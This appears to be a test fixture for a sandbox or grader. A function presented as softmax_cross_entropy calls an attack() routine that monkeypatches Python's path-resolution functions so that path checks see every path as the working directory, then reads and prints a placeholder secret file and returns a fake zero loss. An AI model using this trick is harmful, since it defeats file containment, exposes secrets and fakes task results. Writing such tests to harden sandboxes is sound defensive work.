# expect: reads the file
# It replaces the functions that find out where a path leads.
import os
import posix


def attack(logits, labels):
    here = os.getcwd()
    os.path.realpath = os.path.normcase = os.path.abspath = lambda *a, **k: here
    os.readlink = posix.readlink = lambda *a, **k: here
    os.getcwd = posix.getcwd = lambda: here
    os.fsdecode = lambda path: here
    print(open("@SECRET@").read())


def softmax_cross_entropy(logits, labels):
    found = attack(logits, labels)
    return (0.0, logits * 0) if found is None else found
